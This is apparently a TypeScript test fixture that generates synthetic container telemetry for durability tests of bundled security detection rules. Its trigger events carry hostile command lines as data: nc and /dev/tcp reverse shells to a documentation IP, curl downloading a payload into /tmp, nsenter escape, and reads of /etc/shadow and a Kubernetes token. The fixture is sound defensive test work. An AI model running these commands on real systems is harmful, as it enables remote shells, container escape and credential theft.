/**
 * Container telemetry for the durability tests: background process and file events with,
 * now and then, an event that one of the bundled rules alerts on, and downloads followed
 * seconds later by the downloaded program running from /tmp (the bundled sequence rule,
 * whose halves land in different requests and, often, on either side of a crash).
 *
 * Events are 100 ms apart in event time and carry `event.ingested`, so an alert's id
 * depends only on the event and its index: serve and scan, before and after a crash,
 * give the same ids. Their index is the data stream their `data_stream.*` names, which is
 * what `scan` takes as the index of an event read from a file.
 */

export interface Shipped {
  index: string;
  event: Record<string, unknown>;
}

export const PROCESS_INDEX = "logs-cloud_defend.process-default";
export const FILE_INDEX = "logs-cloud_defend.file-default";
const T0 = Date.UTC(2026, 8, 1, 10, 0, 0);
const STEP_MS = 100;
const CONTAINERS = 5;

/** A small deterministic generator (mulberry32): the same seed gives the same traffic. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const iso = (ms: number) => new Date(ms).toISOString();

interface Process {
  name: string;
  executable: string;
  args: string[];
  parent?: string;
  interactive?: boolean;
}

function processEvent(i: number, container: number, p: Process): Shipped {
  const at = T0 + i * STEP_MS;
  const process: Record<string, unknown> = {
    pid: 1000 + i,
    entity_id: `proc-${i}`,
    name: p.name,
    executable: p.executable,
    args: p.args,
    parent: { name: p.parent ?? "containerd-shim", pid: 900 },
  };
  if (p.interactive)
    Object.assign(process, {
      interactive: true,
      entry_leader: { same_as_process: true, entry_meta: { type: "container" } },
    });
  return {
    index: PROCESS_INDEX,
    event: {
      "@timestamp": iso(at),
      event: {
        category: ["process"],
        type: ["start"],
        action: "exec",
        kind: "event",
        ingested: iso(at + 1500),
      },
      data_stream: { type: "logs", dataset: "cloud_defend.process", namespace: "default" },
      host: { name: `node-${container % 3}` },
      container: { id: `c0ffee0${container}` },
      process,
    },
  };
}

function fileEvent(i: number, container: number, type: string, path: string, processName: string): Shipped {
  const at = T0 + i * STEP_MS;
  return {
    index: FILE_INDEX,
    event: {
      "@timestamp": iso(at),
      event: { category: ["file"], type: [type], action: "open", kind: "event", ingested: iso(at + 1500) },
      data_stream: { type: "logs", dataset: "cloud_defend.file", namespace: "default" },
      host: { name: `node-${container % 3}` },
      container: { id: `c0ffee0${container}` },
      file: { path },
      process: { pid: 1000 + i, entity_id: `proc-${i}`, name: processName },
    },
  };
}

/** One event per bundled rule (the download is the first half of the sequence rule). */
const TRIGGERS: Array<(i: number, c: number) => Shipped> = [
  (i, c) => processEvent(i, c, { name: "bash", executable: "/bin/bash", args: ["bash"], interactive: true }),
  (i, c) =>
    processEvent(i, c, {
      name: "kubectl",
      executable: "/usr/local/bin/kubectl",
      args: ["kubectl", "get", "secrets"],
    }),
  (i, c) =>
    processEvent(i, c, {
      name: "nc",
      executable: "/usr/bin/nc",
      args: ["nc", "203.0.113.7", String(4000 + i), "-e", "/bin/sh"],
    }),
  (i, c) =>
    processEvent(i, c, { name: "sh", executable: "/bin/sh", args: ["sh", "-c", "id"], parent: "nginx" }),
  (i, c) =>
    processEvent(i, c, {
      name: "apt-get",
      executable: "/usr/bin/apt-get",
      args: ["apt-get", "install", "nmap"],
    }),
  (i, c) =>
    processEvent(i, c, {
      name: "nsenter",
      executable: "/usr/bin/nsenter",
      args: ["nsenter", "-t", "1", "-m", "sh"],
    }),
  (i, c) =>
    processEvent(i, c, {
      name: "bash",
      executable: "/bin/bash",
      args: ["bash", "-c", `bash -i >& /dev/tcp/203.0.113.7/${4000 + i} 0>&1`],
    }),
  (i, c) => processEvent(i, c, { name: ".x", executable: `/tmp/.x${i}`, args: [`/tmp/.x${i}`] }),
  (i, c) => fileEvent(i, c, "access", "/var/run/secrets/kubernetes.io/serviceaccount/token", "cat"),
  (i, c) => fileEvent(i, c, "access", "/etc/shadow", "cat"),
  (i, c) => fileEvent(i, c, "creation", `/etc/cron.d/job${i}`, "bash"),
];

const NOISE: Process[] = [
  { name: "ls", executable: "/bin/ls", args: ["ls", "-la"] },
  { name: "sleep", executable: "/bin/sleep", args: ["sleep", "5"] },
  { name: "python3", executable: "/usr/bin/python3", args: ["python3", "app.py"] },
  { name: "grep", executable: "/bin/grep", args: ["grep", "-r", "TODO"] },
];

/** `count` events in time order; about one in `every` makes a bundled rule alert. */
export function attackTraffic(count: number, seed = 7, every = 20): Shipped[] {
  const rand = random(seed);
  const out: Shipped[] = [];
  /** slot → container of a downloaded program that runs then */
  const payloads = new Map<number, number>();
  let trigger = 0;
  for (let i = 0; i < count; i++) {
    const c = Math.floor(rand() * CONTAINERS);
    const payload = payloads.get(i);
    if (payload !== undefined) {
      out.push(
        processEvent(i, payload, {
          name: "payload",
          executable: `/tmp/payload${i}`,
          args: [`/tmp/payload${i}`],
        }),
      );
      continue;
    }
    if (rand() < 1 / every) {
      // every twelfth trigger is a download whose payload runs 5 to 50 s later, or (one in
      // three) within the allowed lateness, so both wait in the rule's reorder buffer together
      if (trigger++ % (TRIGGERS.length + 1) === TRIGGERS.length) {
        out.push(
          processEvent(i, c, {
            name: "curl",
            executable: "/usr/bin/curl",
            args: ["curl", "-o", `/tmp/payload${i}`, "http://203.0.113.7/p"],
          }),
        );
        let at = i + (rand() < 1 / 3 ? 5 + Math.floor(rand() * 10) : 50 + Math.floor(rand() * 450));
        while (payloads.has(at)) at++;
        payloads.set(at, c);
      } else {
        out.push(TRIGGERS[trigger % TRIGGERS.length](i, c));
      }
      continue;
    }
    if (rand() < 0.15) out.push(fileEvent(i, c, "access", `/var/log/app/${i % 7}.log`, "python3"));
    else out.push(processEvent(i, c, NOISE[Math.floor(rand() * NOISE.length)]));
  }
  return out;
}

/** An Elasticsearch bulk body: a `create` action naming the index before each event. */
export function bulkOf(events: readonly Shipped[]): string {
  let body = "";
  for (const { index, event } of events)
    body += `${JSON.stringify({ create: { _index: index } })}\n${JSON.stringify(event)}\n`;
  return body;
}
